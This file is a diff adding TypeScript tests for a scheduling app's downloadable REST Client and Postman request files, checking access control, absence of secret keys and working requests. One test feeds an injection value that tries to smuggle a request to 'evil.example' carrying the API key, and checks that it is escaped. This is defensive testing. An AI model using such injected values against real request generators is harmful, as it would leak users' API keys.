@@ -1,0 +1,180 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
+import { requestFiles } from '../../../src/admin/guide/request-files/request-files.ts';
+import type { RequestsPlace } from '../../../src/admin/guide/request-files/sample-requests.ts';
+import { restPath } from '../../../src/http/rest/rest.ts';
+import { operations } from '../../../src/operations/registry.ts';
+import { signedIn } from '../../helpers/dashboard/dashboard.ts';
+import { type GuidePlace, guidePlace } from './guide-place.ts';
+
+let guide: GuidePlace;
+
+beforeAll(async () => {
+  guide = await guidePlace();
+});
+
+afterAll(() => guide.served.stop());
+
+const pathOf = (address: string) => `/calendars/${guide.served.place.calendarId}/guide/${address}`;
+
+async function fileAt(address: string): Promise<string> {
+  return (await guide.owner.get(pathOf(address), { host: guide.served.origin.replace('http://', '') })).text;
+}
+
+/** What one request of a file is, once its variables are filled in. */
+type Sent = { name: string; method: string; url: string; headers: Record<string, string>; body: string };
+
+/** Sends the requests of a file from top to bottom, as the programs do that read it. */
+async function sendAll(requests: readonly { name: string; send(): Sent; keep(answer: unknown): void }[]) {
+  const statuses: [name: string, status: number][] = [];
+  for (const { name, send, keep } of requests) {
+    const { method, url, headers, body } = send();
+    expect(`${url}${body}`).not.toContain('{{');
+    const response = await fetch(url, { method, headers, ...(method === 'POST' && { body }) });
+    keep(await response.json());
+    statuses.push([name, response.status]);
+  }
+  return statuses;
+}
+
+function filledIn(text: string, values: ReadonlyMap<string, string>): string {
+  return text.replace(/\{\{([^{}]+)\}\}/g, (whole, name: string) => values.get(name) ?? whole);
+}
+
+/** "a.b[0].c" of an answer. */
+function valueAt(answer: unknown, path: string): string {
+  const found = path.split(/[.[\]?]+/).reduce<unknown>((value, name) => Object(value)[name], answer);
+  return String(found ?? '');
+}
+
+type HttpRequest = { name: string; text: string };
+
+function httpRequests(file: string): { head: string; requests: HttpRequest[] } {
+  const [head = '', ...parts] = file.split(/^### .*\n/m);
+  const requests = parts.map((text) => ({ name: /^# @name (\w+)$/m.exec(text)?.[1] ?? '', text }));
+  return { head, requests };
+}
+
+/** Reads a .http file as the REST Client of VS Code does. */
+function ofHttpFile(file: string, key: string) {
+  const { head, requests } = httpRequests(file);
+  const values = new Map([['$processEnv SLOTLINE_API_KEY', key]]);
+  const define = (text: string) => {
+    for (const [, name = '', value = ''] of text.matchAll(/^@(\w+) = (.*)$/gm)) {
+      values.set(name, filledIn(value, values));
+    }
+  };
+  define(head);
+  const answers = new Map<string, unknown>();
+  return requests.map(({ name, text }) => ({
+    name,
+    send(): Sent {
+      for (const [reference, of = '', path = ''] of text.matchAll(
+        /(?<=\{\{)(\w+)\.response\.body\.\$\.([^}]+)(?=\}\})/g,
+      )) {
+        values.set(reference, valueAt(answers.get(of), path));
+      }
+      define(text);
+      const [, line = '', lines = '', body = ''] =
+        /^((?:GET|POST) .*)\n((?:[\w-]+: .*\n?)+)\n?([\s\S]*)$/m.exec(filledIn(text, values)) ?? [];
+      const [method = '', url = ''] = line.split(' ');
+      const headers = Object.fromEntries(
+        lines
+          .trim()
+          .split('\n')
+          .map((each) => each.split(': ')),
+      );
+      return { name, method, url, headers, body };
+    },
+    keep: (answer: unknown) => answers.set(name, answer),
+  }));
+}
+
+type Item = {
+  name: string;
+  item?: Item[];
+  event?: { script: { exec: string[] } }[];
+  request: {
+    method: string;
+    header: { key: string; value: string }[];
+    url: { raw: string; path: string[]; query?: { key: string; value: string }[] };
+    body?: { raw: string };
+  };
+};
+
+type Collection = { info: { schema: string }; variable: { key: string; value: string }[]; item: Item[] };
+
+const itemsOf = (items: readonly Item[]): Item[] =>
+  items.flatMap((each) => (each.item ? itemsOf(each.item) : [each]));
+
+/** Reads a collection as Postman does. */
+function ofCollection(file: string, key: string) {
+  const { variable, item } = JSON.parse(file) as Collection;
+  const values = new Map([...variable.map((each) => [each.key, each.value] as const), ['apiKey', key]]);
+  return itemsOf(item).map(({ name, request, event = [] }) => ({
+    name,
+    send(): Sent {
+      const headers = request.header.map((each) => [each.key, filledIn(each.value, values)]);
+      return {
+        name,
+        method: request.method,
+        url: filledIn(request.url.raw, values),
+        headers: { Authorization: `Bearer ${key}`, ...Object.fromEntries(headers) },
+        body: filledIn(request.body?.raw ?? '', values),
+      };
+    },
+    keep(answer: unknown) {
+      for (const line of event.flatMap(({ script }) => script.exec)) {
+        const [, of = '', path = ''] =
+          /set\('(\w+)', pm\.response\.json\(\)\.(.*) \?\? ''\);$/.exec(line) ?? [];
+        values.set(of, valueAt(answer, path));
+      }
+    },
+  }));
+}
+
+const readers = { 'requests.http': ofHttpFile, 'postman.json': ofCollection };
+
+describe.each(requestFiles)('the file $name', ({ address, name, type }) => {
+  test('is downloaded by its name, to whoever may see the guide, and holds no key', async () => {
+    const { made } = guide.served.contract;
+    const { workspaceId } = guide.served.place;
+    const viewer = await signedIn(made, { role: 'viewer', workspaceId });
+    const { status, headers, text } = await viewer.get(pathOf(address));
+    expect(status).toBe(200);
+    expect(headers.get('content-type')).toBe(`${type}; charset=utf-8`);
+    expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
+    expect(headers.get('cache-control')).toBe('no-store');
+    expect(text).toContain(guide.served.place.calendarId);
+    expect(text).not.toMatch(/sk_(?:live|test)_\w/);
+    expect(guide.pageOf('http')).toContain(`<a href="${pathOf(address)}" download="${name}">`);
+    const stranger = await signedIn(made, { role: 'owner' });
+    expect((await stranger.get(pathOf(address))).status).toBe(404);
+  });
+
+  test('is a call that works from top to bottom, with a request for each operation', async () => {
+    const file = await fileAt(address);
+    const { contract, place } = guide.served;
+    const { key } = await contract.made.key(place.workspaceId, address, 'test');
+    const read = readers[address as keyof typeof readers];
+    const statuses = await sendAll(read(file, key));
+    expect(statuses.filter(([, status]) => status !== 200 && status !== 201)).toEqual([]);
+    expect(statuses).toHaveLength(operations.length + 2);
+    for (const operation of operations) expect(file).toContain(restPath(operation));
+  });
+
+  test('fills in nothing that users wrote', () => {
+    const { make } = requestFiles.find((each) => each.address === address) ?? {};
+    const words = '{{apiKey}} "a\n### b\nGET https://evil.example/{{apiKey}}&x=$CALENDAR_ID';
+    const questions = [{ key: '{{apiKey}}', ask: 'a', isRequired: true, isPrivate: false }];
+    const caller = { query: words, service: { questions } } as unknown as RequestsPlace['caller'];
+    const today = Temporal.PlainDate.from('2026-11-20');
+    const place = { baseUrl: 'https://slots.example.com', calendarId: 'c', caller, today };
+    const plain = make?.({ ...place, caller: { query: 'Monday', service: undefined } }) ?? '';
+    const text = make?.(place) ?? '';
+    // The variable is named as often as without them.
+    expect(text.match(/\{\{apiKey\}\}/g)?.length).toBe(plain.match(/\{\{apiKey\}\}/g)?.length);
+    expect(text.match(/^###/gm)?.length).toBe(plain.match(/^###/gm)?.length);
+    expect(text.match(/^(?:GET|POST) /gm)?.length).toBe(plain.match(/^(?:GET|POST) /gm)?.length);
+    expect(text).toContain('a\\n### b'.replaceAll('\\', address === 'postman.json' ? '\\\\' : '\\'));
+  });
+});
